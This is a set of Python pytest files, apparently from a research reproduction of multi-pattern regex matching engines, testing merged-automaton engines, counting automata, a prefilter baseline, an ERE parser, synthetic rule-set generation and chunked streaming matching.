from repro.mfsa.activation import ActivationConfig, reference_match
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


class TestTables:
    def test_limbs_for(self):
        assert limbs_for(1) == 1
        assert limbs_for(64) == 1
        assert limbs_for(65) == 2
        assert limbs_for(300) == 5

    def test_mask_to_limbs(self):
        mask = (1 << 70) | 1
        assert mask_to_limbs(mask, 2) == (1, 1 << 6)

    def test_build_masks(self):
        mfsa = build(["ab", "ac"])
        tables = MfsaTables.build(mfsa)
        assert tables.num_rules == 2
        assert sum(1 for m in tables.init_mask if m) == 1  # shared initial
        assert sum(1 for m in tables.final_mask if m) == 2

    def test_ensure_arrays_idempotent(self):
        tables = MfsaTables.build(build(["ab"]))
        tables.ensure_arrays()
        first = tables.np_src
        tables.ensure_arrays()
        assert tables.np_src is first


class TestBackends:
    @pytest.mark.parametrize("backend", ["python", "numpy"])
    def test_matches_reference(self, backend):
        mfsa = build(["(ad|cb)ab", "a(b|c)"])
        engine = IMfantEngine(mfsa, backend=backend)
        assert engine.run("acbab").matches == reference_match(mfsa, "acbab")

    def test_unknown_backend(self):
        with pytest.raises(ValueError):
            IMfantEngine(build(["a"]), backend="cuda")

    @pytest.mark.parametrize("backend", ["python", "numpy"])
    def test_empty_matching_rules(self, backend):
        mfsa = build(["a*", "b"])
        got = IMfantEngine(mfsa, backend=backend).run("b").matches
        assert got == {(0, 0), (0, 1), (1, 1)}

    @pytest.mark.parametrize("backend", ["python", "numpy"])
    def test_dead_symbol_discards_paths(self, backend):
        mfsa = build(["ab"])
        engine = IMfantEngine(mfsa, backend=backend)
        assert engine.run("azb").matches == set()

    def test_backends_agree_on_counters(self):
        mfsa = build(["abc", "a[bc]d", "xy"])
        text = "abcxydabcd"
        py = IMfantEngine(mfsa, backend="python").run(text).stats
        np_ = IMfantEngine(mfsa, backend="numpy").run(text).stats
        assert py.transitions_examined == np_.transitions_examined
        assert py.transitions_taken == np_.transitions_taken
        assert py.active_pair_total == np_.active_pair_total
        assert py.max_state_activation == np_.max_state_activation

    def test_multi_limb_rules(self):
        """More than 64 rules exercises the multi-limb numpy path."""
        patterns = [f"x{chr(97 + i % 26)}{chr(97 + (i // 26) % 26)}y" for i in range(70)]
        mfsa = build(patterns)
        text = "xaay xbay xzzy"
        expected = reference_match(mfsa, text)
        assert IMfantEngine(mfsa, backend="numpy").run(text).matches == expected
        assert IMfantEngine(mfsa, backend="python").run(text).matches == expected

    @pytest.mark.parametrize("backend", ["python", "numpy"])
    def test_pop_on_final(self, backend):
        mfsa = build(["ab+"])
        engine = IMfantEngine(mfsa, backend=backend, pop_on_final=True)
        expected = reference_match(mfsa, "abbb", ActivationConfig(pop_on_final=True))
        assert engine.run("abbb").matches == expected


class TestAgainstInfant:
    def test_m1_equals_infant(self):
        """A single-rule MFSA under iMFAnt equals iNFAnt on the raw FSA."""
        fsa = compile_re_to_fsa("a(b|c)+d")
        mfsa = merge_fsas([(7, fsa)])
        text = "zabcbd" * 3
        assert IMfantEngine(mfsa).run(text).matches == INfantEngine(fsa, 7).run(text).matches


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_backend_agreement_property(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=4))
    text = data.draw(input_strings())
    mfsa = build(patterns)
    expected = reference_match(mfsa, text)
    py = IMfantEngine(mfsa, backend="python").run(text)
    np_ = IMfantEngine(mfsa, backend="numpy").run(text)
    assert py.matches == expected
    assert np_.matches == expected
    assert py.stats.active_pair_total == np_.stats.active_pair_total


class TestSingleMatch:
    @pytest.mark.parametrize("backend", ["python", "numpy", "lazy"])
    def test_first_match_per_rule_only(self, backend):
        mfsa = build(["ab", "cd"])
        engine = IMfantEngine(mfsa, backend=backend, single_match=True)
        got = engine.run("ababcdcd").matches
        assert got == {(0, 2), (1, 6)}

    @pytest.mark.parametrize("backend", ["python", "numpy", "lazy"])
    def test_early_exit_stops_scanning(self, backend):
        mfsa = build(["ab"])
        engine = IMfantEngine(mfsa, backend=backend, single_match=True)
        stream = "ab" + "z" * 1000
        stats = engine.run(stream).stats
        assert stats.chars_processed == 2

    @pytest.mark.parametrize("backend", ["python", "numpy", "lazy"])
    def test_no_early_exit_until_all_rules_fire(self, backend):
        mfsa = build(["ab", "zz"])
        engine = IMfantEngine(mfsa, backend=backend, single_match=True)
        stream = "ab" + "y" * 50 + "zz" + "y" * 50
        result = engine.run(stream)
        assert result.matches == {(0, 2), (1, 54)}
        assert result.stats.chars_processed == 54

    def test_numpy_backend_first_match_semantics(self):
        mfsa = build(["a+"])
        engine = IMfantEngine(mfsa, backend="numpy", single_match=True)
        assert engine.run("aaa").matches == {(0, 1)}

    @pytest.mark.parametrize("backend", ["python", "numpy", "lazy"])
    def test_empty_rule_counts_as_matched(self, backend):
        mfsa = build(["a*", "b"])
        engine = IMfantEngine(mfsa, backend=backend, single_match=True)
        result = engine.run("bzzzz")
        assert (1, 1) in result.matches
        assert result.stats.chars_processed == 1  # early exit after b

    def test_default_mode_unchanged(self):
        mfsa = build(["a+"])
        assert IMfantEngine(mfsa).run("aaa").matches == {(0, 1), (0, 2), (0, 3)}

    def test_backends_agree_on_single_match_stats(self):
        """The numpy backend early-exits like the python one and reports
        the bytes actually consumed; work counters agree position for
        position (taken is counted in-step, examined post-exit)."""
        mfsa = build(["abc", "a[bc]d", "xy"])
        text = "abcxyzacd" + "z" * 200 + "xy"
        results = {
            backend: IMfantEngine(mfsa, backend=backend, single_match=True).run(text)
            for backend in ("python", "numpy", "lazy")
        }
        py = results["python"]
        assert py.stats.chars_processed < len(text)  # exit actually fired
        for backend in ("numpy", "lazy"):
            other = results[backend]
            assert other.matches == py.matches, backend
            assert other.stats.chars_processed == py.stats.chars_processed, backend
            assert other.stats.transitions_examined == py.stats.transitions_examined, backend
            assert other.stats.transitions_taken == py.stats.transitions_taken, backend
            assert other.stats.active_pair_total == py.stats.active_pair_total, backend

    def test_numpy_dead_symbol_early_exit(self):
        """All rules ε-accepting: every backend consumes exactly one byte
        even when that byte enables no transitions."""
        mfsa = build(["a*", "b*"])
        for backend in ("python", "numpy", "lazy"):
            stats = IMfantEngine(mfsa, backend=backend, single_match=True).run("zzzz").stats
            assert stats.chars_processed == 1, backend
