"""Tests for the synthetic dataset substrate."""

import pytest

from repro.automata.optimize import compile_re_to_fsa
from repro.datasets import DATASET_PROFILES, generate_ruleset, generate_stream, get_profile
from repro.frontend.parser import parse
from repro.similarity import average_pairwise_similarity


class TestProfiles:
    def test_all_six_suites_present(self):
        assert set(DATASET_PROFILES) == {"BRO", "DS9", "PEN", "PRO", "RG1", "TCP"}

    def test_get_profile_case_insensitive(self):
        assert get_profile("bro").abbr == "BRO"

    def test_get_profile_unknown(self):
        with pytest.raises(KeyError):
            get_profile("NOPE")

    def test_paper_scale_counts(self):
        assert DATASET_PROFILES["BRO"].num_res == 217
        assert DATASET_PROFILES["DS9"].num_res == 299
        assert DATASET_PROFILES["TCP"].num_res == 300

    def test_scaled_reduces(self):
        profile = get_profile("TCP").scaled(6)
        assert profile.num_res == 50
        assert profile.motif_pool < get_profile("TCP").motif_pool

    def test_scaled_noop_for_one(self):
        assert get_profile("TCP").scaled(1) is get_profile("TCP")

    def test_scaled_floor(self):
        profile = get_profile("BRO").scaled(1000)
        assert profile.num_res == 8
        assert profile.motif_pool >= 4


class TestGeneration:
    @pytest.fixture(scope="class")
    def suites(self):
        return {abbr: generate_ruleset(p.scaled(10)) for abbr, p in DATASET_PROFILES.items()}

    def test_counts_match_profile(self, suites):
        for abbr, ruleset in suites.items():
            assert len(ruleset) == DATASET_PROFILES[abbr].scaled(10).num_res

    def test_deterministic(self):
        profile = get_profile("PEN").scaled(10)
        assert generate_ruleset(profile).patterns == generate_ruleset(profile).patterns

    def test_patterns_unique(self, suites):
        for ruleset in suites.values():
            assert len(set(ruleset.patterns)) == len(ruleset.patterns)

    def test_all_patterns_compile(self, suites):
        for ruleset in suites.values():
            for pattern in ruleset.patterns:
                parse(pattern)  # raises on syntax errors

    def test_cores_are_plain_strings(self, suites):
        for ruleset in suites.values():
            for core in ruleset.literal_cores:
                assert core
                assert all(ord(c) < 256 for c in core)

    def test_pro_has_highest_similarity(self, suites):
        """Fig. 1 shape: Protomata is the most self-similar suite."""
        sims = {
            abbr: average_pairwise_similarity(rs.literal_cores, max_pairs=200)
            for abbr, rs in suites.items()
        }
        assert max(sims, key=sims.get) == "PRO"
        assert all(0.1 < s < 0.8 for s in sims.values()), sims

    def test_dotstar_flavour(self, suites):
        """DS9 carries .* infixes; TCP has none (exact-match suite)."""
        assert any(".*" in p for p in suites["DS9"].patterns)
        assert not any(".*" in p for p in suites["TCP"].patterns)

    def test_fsa_scale_tracks_table1(self, suites):
        """Long suites (DS9/RG1) build much bigger automata than BRO/PRO."""
        avg = {}
        for abbr in ("DS9", "PRO"):
            fsas = [compile_re_to_fsa(p) for p in suites[abbr].patterns]
            avg[abbr] = sum(f.num_states for f in fsas) / len(fsas)
        assert avg["DS9"] > 2 * avg["PRO"]


class TestStreams:
    @pytest.fixture(scope="class")
    def ruleset(self):
        return generate_ruleset(get_profile("BRO").scaled(10))

    def test_size_exact(self, ruleset):
        assert len(generate_stream(ruleset, 1000)) == 1000

    def test_deterministic(self, ruleset):
        assert generate_stream(ruleset, 500) == generate_stream(ruleset, 500)

    def test_seed_changes_stream(self, ruleset):
        assert generate_stream(ruleset, 500, seed=1) != generate_stream(ruleset, 500, seed=2)

    def test_zero_hit_density_is_noise(self, ruleset):
        stream = generate_stream(ruleset, 400, hit_density=0.0)
        assert len(stream) == 400

    def test_planted_material_matches(self, ruleset):
        """At a high hit density, the ruleset actually fires on the stream."""
        from repro.engine.imfant import IMfantEngine
        from repro.mfsa.merge import merge_fsas

        stream = generate_stream(ruleset, 2000, hit_density=0.6)
        fsas = [(i, compile_re_to_fsa(p)) for i, p in enumerate(ruleset.patterns)]
        mfsa = merge_fsas(fsas)
        matches = IMfantEngine(mfsa).run(stream).matches
        assert matches, "planted motifs should produce at least one match"

    def test_negative_size_rejected(self, ruleset):
        with pytest.raises(ValueError):
            generate_stream(ruleset, -1)


class TestAdversarialStreams:
    @pytest.fixture(scope="class")
    def ruleset(self):
        return generate_ruleset(get_profile("DS9").scaled(12))

    def test_size_and_determinism(self, ruleset):
        from repro.datasets import generate_adversarial_stream

        a = generate_adversarial_stream(ruleset, 700)
        assert len(a) == 700
        assert a == generate_adversarial_stream(ruleset, 700)

    def test_higher_partial_match_pressure(self, ruleset):
        """Prefix-spam keeps more (state, rule) pairs active than the
        ordinary stream at the same size."""
        from repro.datasets import generate_adversarial_stream, generate_stream
        from repro.engine.imfant import IMfantEngine
        from repro.mfsa.merge import merge_fsas

        fsas = [(i, compile_re_to_fsa(p)) for i, p in enumerate(ruleset.patterns)]
        mfsa = merge_fsas(fsas)
        normal = IMfantEngine(mfsa).run(generate_stream(ruleset, 800)).stats
        adversarial = IMfantEngine(mfsa).run(
            generate_adversarial_stream(ruleset, 800)).stats
        assert adversarial.avg_active_pairs > normal.avg_active_pairs

    def test_negative_size(self, ruleset):
        from repro.datasets import generate_adversarial_stream

        with pytest.raises(ValueError):
            generate_adversarial_stream(ruleset, -1)


class TestRulesetFiles:
    def test_save_and_load_roundtrip(self, tmp_path):
        from repro.datasets.synthetic import load_ruleset_file, save_ruleset

        ruleset = generate_ruleset(get_profile("BRO").scaled(20))
        path = tmp_path / "bro.rules"
        save_ruleset(ruleset, path)
        assert load_ruleset_file(path) == ruleset.patterns

    def test_header_records_provenance(self, tmp_path):
        from repro.datasets.synthetic import save_ruleset

        ruleset = generate_ruleset(get_profile("TCP").scaled(20))
        path = tmp_path / "tcp.rules"
        save_ruleset(ruleset, path)
        header = path.read_text().splitlines()[:2]
        assert "TCP" in header[0]
        assert "seed=" in header[1]

    def test_saved_file_feeds_the_cli(self, tmp_path, capsys):
        from repro.cli import compile_main
        from repro.datasets.synthetic import save_ruleset

        ruleset = generate_ruleset(get_profile("PEN").scaled(30))
        path = tmp_path / "pen.rules"
        save_ruleset(ruleset, path)
        assert compile_main([str(path), "-o", str(tmp_path / "out")]) == 0
        assert f"compiled {len(ruleset)} REs" in capsys.readouterr().out
