"""Tests for counting-MFSA merging and its engine."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.counting import (
    CountingMergeReport,
    CountingMfsaEngine,
    CountingSetEngine,
    build_counting_fsa,
    merge_counting_fsas,
)

from conftest import ere_patterns, input_strings


def build_merged(patterns, min_count_bound=1):
    items = [(i, build_counting_fsa(p, min_count_bound=min_count_bound))
             for i, p in enumerate(patterns)]
    return merge_counting_fsas(items)


def per_rule_matches(patterns, text, min_count_bound=1):
    out = set()
    for rule_id, pattern in enumerate(patterns):
        cfsa = build_counting_fsa(pattern, min_count_bound=min_count_bound)
        out |= CountingSetEngine(cfsa, rule_id).run(text).matches
    return out


class TestMerging:
    def test_shared_counting_arc(self):
        """Identical counted runs merge: one counter, both belongings."""
        z = build_merged(["x[0-9]{5}a", "x[0-9]{5}b"])
        assert len(z.counting) == 1
        assert z.counting[0].bel == frozenset({0, 1})

    def test_different_bounds_do_not_merge(self):
        z = build_merged(["x[0-9]{5}a", "x[0-9]{6}a"])
        assert len(z.counting) == 2
        assert all(len(arc.bel) == 1 for arc in z.counting)

    def test_different_labels_do_not_merge(self):
        z = build_merged(["x[0-9]{5}a", "x[a-f]{5}a"])
        assert len(z.counting) == 2

    def test_plain_prefix_still_merges(self):
        z = build_merged(["abc[x]{9}", "abd"])
        shared = [t for t in z.plain if len(t.bel) == 2]
        assert shared  # the ab prefix

    def test_compression_report(self):
        report = CountingMergeReport()
        items = [(i, build_counting_fsa(p)) for i, p in
                 enumerate(["q[0-9]{4}z", "q[0-9]{4}y"])]
        merge_counting_fsas(items, report=report)
        assert report.merged_counting == 1
        assert report.state_compression > 0

    def test_errors(self):
        with pytest.raises(ValueError):
            merge_counting_fsas([])
        cfsa = build_counting_fsa("a{5}")
        with pytest.raises(ValueError):
            merge_counting_fsas([(1, cfsa), (1, cfsa)])


class TestEngine:
    @pytest.mark.parametrize("patterns,text", [
        (["x[ab]{3}y", "x[ab]{3}z"], "xabay xbbbz xaby"),
        (["a{2,4}b", "a{2,4}c"], "aaab aaaac ab"),
        (["p[0-9]{2}", "q[0-9]{2}"], "p12 q99 p1"),
        (["a{3,}b", "a{3,}c"], "aaaab aaac aab"),
        (["k{5}", "m"], "kkkkkm"),
    ])
    def test_merged_equals_per_rule(self, patterns, text):
        z = build_merged(patterns)
        got = CountingMfsaEngine(z).run(text).matches
        assert got == per_rule_matches(patterns, text)

    def test_shared_counter_distinguishes_rules(self):
        """Both rules share the counter but only the right suffix fires."""
        patterns = ["x[ab]{3}y", "x[ab]{3}z"]
        z = build_merged(patterns)
        got = CountingMfsaEngine(z).run("xabay").matches
        assert got == {(0, 5)}

    def test_overlapping_entries_with_masks(self):
        patterns = ["ba{2,3}c", "a{2,3}c"]
        z = build_merged(patterns)
        for text in ("baac", "baaac", "aac", "aaac", "baacaaac"):
            assert CountingMfsaEngine(z).run(text).matches == \
                per_rule_matches(patterns, text), text

    def test_expansion_reference(self):
        """The merged counting automaton equals the fully-expanded NFAs."""
        patterns = ["x[ab]{2,3}y", "x[ab]{2,3}z"]
        z = build_merged(patterns)
        text = "xaby xaaby xbbbz xz"
        expected = set()
        for rule_id, pattern in enumerate(patterns):
            expected |= {(rule_id, e)
                         for e in find_match_ends(compile_re_to_fsa(pattern), text)}
        assert CountingMfsaEngine(z).run(text).matches == expected

    def test_large_shared_bound(self):
        patterns = ["h[ab]{200}x", "h[ab]{200}y"]
        z = build_merged(patterns)
        assert len(z.counting) == 1
        assert z.num_states < 12
        text = "h" + "ab" * 100 + "x"
        assert CountingMfsaEngine(z).run(text).matches == {(0, 202)}

    def test_stats(self):
        z = build_merged(["a{3}b", "c"])
        stats = CountingMfsaEngine(z).run("aaab c").stats
        assert stats.chars_processed == 6
        assert stats.match_count == 2


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_counting_mfsa_equivalence_property(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
    text = data.draw(input_strings())
    z = build_merged(patterns, min_count_bound=2)
    got = CountingMfsaEngine(z).run(text).matches
    assert got == per_rule_matches(patterns, text, min_count_bound=2)


@given(
    low=st.integers(min_value=1, max_value=4),
    extra=st.integers(min_value=0, max_value=3),
    text=st.text(alphabet="abz", max_size=25),
)
@settings(max_examples=100, deadline=None)
def test_shared_counter_property(low, extra, text):
    patterns = [f"z[ab]{{{low},{low + extra}}}a", f"z[ab]{{{low},{low + extra}}}b"]
    z = build_merged(patterns)
    assert len(z.counting) == 1  # the counter is shared
    got = CountingMfsaEngine(z).run(text).matches
    assert got == per_rule_matches(patterns, text)
