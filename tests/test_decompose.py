"""Tests for the Hyperscan-style decomposition baseline."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import find_match_ends
from repro.decompose.engine import PrefilterEngine, _merge_windows
from repro.decompose.rules import decompose_rule

from conftest import ere_patterns, input_strings


class TestDecomposeRule:
    def test_literal_rule(self):
        rule = decompose_rule(0, "hello")
        assert rule.prefilterable
        assert rule.literals == frozenset({"hello"})
        assert rule.min_len == 5
        assert rule.window == 5

    def test_unbounded_rule(self):
        rule = decompose_rule(1, "foo.*bar")
        assert rule.prefilterable
        assert rule.window is None

    def test_unfilterable_rule(self):
        rule = decompose_rule(2, "[a-z]+")
        assert not rule.prefilterable

    def test_fsa_compiled(self):
        rule = decompose_rule(3, "ab|cd")
        assert rule.fsa.num_transitions > 0


class TestMergeWindows:
    def test_single_hit(self):
        assert _merge_windows([10], width=3, stream_len=100) == [(4, 13)]

    def test_clamping(self):
        assert _merge_windows([1], width=5, stream_len=4) == [(0, 4)]

    def test_overlapping_merge(self):
        assert _merge_windows([10, 12], width=3, stream_len=100) == [(4, 15)]

    def test_disjoint_kept(self):
        assert _merge_windows([10, 50], width=2, stream_len=100) == [(6, 12), (46, 52)]


class TestPrefilterEngine:
    RULES = ["hello", "foo.*bend", "[a-z]+x9", "(cat|dog)food"]

    def _expected(self, text):
        expected = set()
        for rule_id, pattern in enumerate(self.RULES):
            fsa = compile_re_to_fsa(pattern)
            expected |= {(rule_id, e) for e in find_match_ends(fsa, text)}
        return expected

    @pytest.mark.parametrize("text", [
        "say hello world",
        "foo bar bend",
        "zzzx9",
        "catfood and dogfood",
        "nothing here",
        "",
        "hellohello catfood foo...bend aax9",
    ])
    def test_equivalent_to_full_scan(self, text):
        engine = PrefilterEngine(self.RULES)
        matches, _ = engine.run(text)
        assert matches == self._expected(text)

    def test_prefilter_skips_cold_rules(self):
        engine = PrefilterEngine(["hello", "goodbye"])
        matches, stats = engine.run("only hello here")
        assert matches == {(0, 10)}
        assert stats.rules_confirmed == 1
        assert stats.rules_skipped == 1

    def test_unfilterable_rules_always_run(self):
        engine = PrefilterEngine(["[a-z]+"])
        _, stats = engine.run("zz")
        assert stats.rules_confirmed == 1
        assert stats.rules_skipped == 0

    def test_windowed_confirmation_bytes(self):
        """Bounded rules scan a window, not the whole stream."""
        engine = PrefilterEngine(["needle"])
        stream = "x" * 10_000 + "needle" + "y" * 10_000
        matches, stats = engine.run(stream)
        assert matches == {(0, 10_006)}
        assert stats.bytes_scanned_confirming < 100

    def test_shared_literal_across_rules(self):
        engine = PrefilterEngine(["abc", "abcd"])
        matches, _ = engine.run("zabcd")
        assert matches == {(0, 4), (1, 5)}

    def test_stats_totals(self):
        engine = PrefilterEngine(self.RULES)
        _, stats = engine.run("hello catfood")
        assert stats.total_rules == 4
        # even [a-z]+x9 is prefilterable through its required "x9" factor
        assert stats.prefilterable_rules == 4
        assert stats.literal_hits >= 2


@given(st.lists(ere_patterns(), min_size=1, max_size=4), input_strings())
@settings(max_examples=80, deadline=None)
def test_prefilter_equivalence_property(patterns, text):
    """The decomposition engine equals a full per-rule scan, always."""
    engine = PrefilterEngine(patterns)
    matches, _ = engine.run(text)
    expected = set()
    for rule_id, pattern in enumerate(patterns):
        fsa = compile_re_to_fsa(pattern)
        expected |= {(rule_id, e) for e in find_match_ends(fsa, text)}
    assert matches == expected
