"""Unit tests for the ERE parser (pattern → AST)."""

import pytest
from hypothesis import given

from repro.frontend.ast import Alternation, Concat, Empty, Literal, Repeat
from repro.frontend.errors import RegexSyntaxError
from repro.frontend.parser import parse
from repro.labels import CharClass

from conftest import ere_patterns


class TestAtoms:
    def test_single_char(self):
        node = parse("a")
        assert isinstance(node, Literal)
        assert node.charclass == CharClass.single("a")

    def test_charclass(self):
        node = parse("[a-c]")
        assert isinstance(node, Literal)
        assert node.charclass == CharClass.from_range("a", "c")

    def test_empty_pattern(self):
        assert parse("") == Empty()

    def test_group(self):
        assert parse("(a)") == parse("a")


class TestCombinators:
    def test_concat(self):
        node = parse("ab")
        assert isinstance(node, Concat)
        assert len(node.parts) == 2

    def test_concat_flattens(self):
        node = parse("abc")
        assert isinstance(node, Concat)
        assert len(node.parts) == 3

    def test_alternation(self):
        node = parse("a|b|c")
        assert isinstance(node, Alternation)
        assert len(node.branches) == 3

    def test_alternation_with_empty_branch(self):
        node = parse("a|")
        assert isinstance(node, Alternation)
        assert node.branches[1] == Empty()

    def test_precedence_concat_over_alt(self):
        node = parse("ab|cd")
        assert isinstance(node, Alternation)
        assert all(isinstance(b, Concat) for b in node.branches)

    def test_grouping_overrides(self):
        node = parse("a(b|c)d")
        assert isinstance(node, Concat)
        assert isinstance(node.parts[1], Alternation)


class TestQuantifiers:
    @pytest.mark.parametrize("text,low,high", [
        ("a*", 0, None),
        ("a+", 1, None),
        ("a?", 0, 1),
        ("a{3}", 3, 3),
        ("a{2,}", 2, None),
        ("a{2,5}", 2, 5),
    ])
    def test_quantifier_bounds(self, text, low, high):
        node = parse(text)
        assert isinstance(node, Repeat)
        assert (node.low, node.high) == (low, high)

    def test_quantifier_binds_to_atom(self):
        node = parse("ab*")
        assert isinstance(node, Concat)
        assert isinstance(node.parts[1], Repeat)

    def test_quantifier_on_group(self):
        node = parse("(ab)*")
        assert isinstance(node, Repeat)
        assert isinstance(node.body, Concat)

    def test_stacked_quantifiers(self):
        node = parse("a*?")
        assert isinstance(node, Repeat)
        assert isinstance(node.body, Repeat)

    def test_dangling_quantifier_rejected(self):
        for bad in ("*", "|*", "(*)", "{1}"):
            with pytest.raises(RegexSyntaxError):
                parse(bad)


class TestErrors:
    def test_unbalanced_parens(self):
        with pytest.raises(RegexSyntaxError):
            parse("(a")
        with pytest.raises(RegexSyntaxError):
            parse("a)")

    def test_error_position(self):
        with pytest.raises(RegexSyntaxError) as info:
            parse("ab)")
        assert info.value.position == 2


class TestRoundTrip:
    @pytest.mark.parametrize("pattern", [
        "a", "abc", "a|b", "(a|b)c", "a*", "(ab)+", "a{2,3}",
        "[a-f]x", "a(b|c)*d", "x\\.y",
    ])
    def test_pattern_render_reparse(self, pattern):
        node = parse(pattern)
        assert parse(node.pattern()) == node

    @given(ere_patterns())
    def test_render_reparse_property(self, pattern):
        node = parse(pattern)
        assert parse(node.pattern()) == node


class TestAstUtilities:
    def test_walk_preorder(self):
        node = parse("a(b|c)")
        kinds = [type(n).__name__ for n in node.walk()]
        assert kinds[0] == "Concat"
        assert "Alternation" in kinds

    def test_structural_equality(self):
        assert parse("a(b)c") == parse("abc")
        assert parse("a|b") != parse("b|a")
        assert hash(parse("ab")) == hash(parse("ab"))

    def test_invalid_constructions(self):
        with pytest.raises(ValueError):
            Concat((Empty(),))
        with pytest.raises(ValueError):
            Alternation((Empty(),))
        with pytest.raises(ValueError):
            Repeat(Empty(), -1, None)
        with pytest.raises(ValueError):
            Repeat(Empty(), 3, 2)


class TestDiagnosticRendering:
    """The caret diagnostics users actually see."""

    def test_caret_points_at_offender(self):
        from repro.frontend.errors import RegexSyntaxError

        try:
            parse("ab)cd")
        except RegexSyntaxError as exc:
            rendered = str(exc)
            lines = rendered.splitlines()
            assert lines[1].strip() == "ab)cd"
            assert lines[2].index("^") - lines[1].index("ab)cd") == 2
        else:
            raise AssertionError("expected RegexSyntaxError")

    def test_message_names_problem(self):
        from repro.frontend.errors import RegexSyntaxError

        with pytest.raises(RegexSyntaxError, match="trailing input"):
            parse("*a")
        with pytest.raises(RegexSyntaxError, match="expected '\\)'"):
            parse("(ab")
        with pytest.raises(RegexSyntaxError, match="backreference"):
            parse("(a)\\1")
