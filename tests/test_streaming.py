"""Tests for the chunked streaming matcher."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.engine.imfant import IMfantEngine
from repro.engine.streaming import StreamingMatcher
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas, ere_patterns, input_strings


def build(patterns):
    return merge_fsas(compile_ruleset_fsas(patterns))


class TestStreamingMatcher:
    def test_single_feed_equals_oneshot(self):
        mfsa = build(["abc", "ab"])
        text = "zabcab"
        matcher = StreamingMatcher(mfsa)
        matcher.feed(text)
        assert matcher.matches == IMfantEngine(mfsa).run(text).matches

    def test_match_spanning_chunks(self):
        mfsa = build(["hello"])
        matcher = StreamingMatcher(mfsa)
        assert matcher.feed("xxhel") == set()
        assert matcher.feed("loyy") == {(0, 7)}

    def test_offsets_are_absolute(self):
        mfsa = build(["ab"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("ab")
        matcher.feed("ab")
        assert matcher.matches == {(0, 2), (0, 4)}
        assert matcher.offset == 4

    def test_feed_returns_only_new_matches(self):
        mfsa = build(["a"])
        matcher = StreamingMatcher(mfsa)
        first = matcher.feed("a")
        second = matcher.feed("b")
        assert first == {(0, 1)}
        assert second == set()

    def test_empty_chunks_are_noops(self):
        mfsa = build(["ab"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("")
        matcher.feed(b"")
        assert matcher.offset == 0

    def test_empty_matching_rule_reports_everywhere(self):
        mfsa = build(["a*", "b"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("xb")
        assert {(0, 0), (0, 1), (0, 2), (1, 2)} <= matcher.matches

    def test_reset(self):
        mfsa = build(["ab"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("ab")
        matcher.reset()
        assert matcher.offset == 0
        assert matcher.matches == set()
        assert matcher.feed("ab") == {(0, 2)}

    def test_feed_all(self):
        mfsa = build(["abcd"])
        matcher = StreamingMatcher(mfsa)
        got = matcher.feed_all(["a", "b", "c", "d"])
        assert got == {(0, 4)}

    def test_pop_on_final_mode(self):
        mfsa = build(["ab+"])
        matcher = StreamingMatcher(mfsa, pop_on_final=True)
        matcher.feed("abbb")
        engine = IMfantEngine(mfsa, pop_on_final=True)
        assert matcher.matches == engine.run("abbb").matches


class TestEpsCompaction:
    def test_eps_rules_not_enumerated_internally(self):
        # the old hot loop added one tuple per ε-rule per byte; the
        # compact form stores the "matches everywhere" fact once
        mfsa = build(["a*", "b"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed(b"x" * 10_000)
        assert len(matcher._matches) == 0  # no enumerated ε tuples
        assert matcher.all_offsets_rules == [0]
        assert (0, 0) in matcher.matches and (0, 10_000) in matcher.matches
        assert len(matcher.matches) == 10_001

    def test_feed_returns_non_eps_only(self):
        mfsa = build(["a*", "b"])
        matcher = StreamingMatcher(mfsa)
        assert matcher.feed("ab") == {(1, 2)}

    def test_expansion_matches_oneshot(self):
        mfsa = build(["(xy)*", "ab"])
        matcher = StreamingMatcher(mfsa)
        matcher.feed("xyab")
        assert matcher.matches == IMfantEngine(mfsa).run("xyab").matches


class TestFeedMapping:
    def test_splice_equals_feed(self):
        mfsa = build(["hel+o", "lo"])
        a = StreamingMatcher(mfsa)
        b = StreamingMatcher(mfsa)
        # suffix mapping computed before its prefix is fed
        suffix = b.scanner.scan_chunk(b"loyy").mapping
        a.feed("xxhel")
        b.feed("xxhel")
        got = b.feed_mapping(suffix)
        assert got == a.feed("loyy")
        assert b.matches == a.matches and b.offset == a.offset
        # and the stream continues identically after the splice
        assert b.feed("helo") == a.feed("helo")

    def test_out_of_order_pipeline(self):
        # scan every chunk's mapping up front (any order), splice in order
        mfsa = build(["a.*b", "ab"])
        stream = b"a" + b"x" * 200 + b"b" + b"ab" * 30
        chunks = [stream[i : i + 37] for i in range(0, len(stream), 37)]
        matcher = StreamingMatcher(mfsa)
        mappings = [matcher.scanner.scan_chunk(c).mapping for c in reversed(chunks)]
        for mapping in reversed(mappings):
            matcher.feed_mapping(mapping)
        assert matcher.matches == IMfantEngine(mfsa).run(stream).matches

    def test_detached_mapping_reattaches(self):
        import pickle

        mfsa = build(["ab+"])
        matcher = StreamingMatcher(mfsa)
        mapping = pickle.loads(
            pickle.dumps(matcher.scanner.scan_chunk(b"abbb").mapping)
        )
        assert mapping.scanner is None
        assert matcher.feed_mapping(mapping) == {(0, 2), (0, 3), (0, 4)}

    def test_wrong_automaton_rejected(self):
        from repro.guard.errors import UsageError

        matcher = StreamingMatcher(build(["ab"]))
        other = StreamingMatcher(build(["cd"]))
        mapping = other.scanner.scan_chunk(b"cd").mapping
        with pytest.raises(UsageError):
            matcher.feed_mapping(mapping)

    def test_pop_on_final_splice(self):
        mfsa = build(["ab+"])
        a = StreamingMatcher(mfsa, pop_on_final=True)
        b = StreamingMatcher(mfsa, pop_on_final=True)
        a.feed("abbb")
        b.feed_mapping(b.scanner.scan_chunk(b"abbb").mapping)
        assert b.matches == a.matches


@given(st.data())
@settings(max_examples=60, deadline=None)
def test_mixed_feed_and_mapping_equals_oneshot(data):
    patterns = data.draw(st.lists(ere_patterns(), min_size=1, max_size=3))
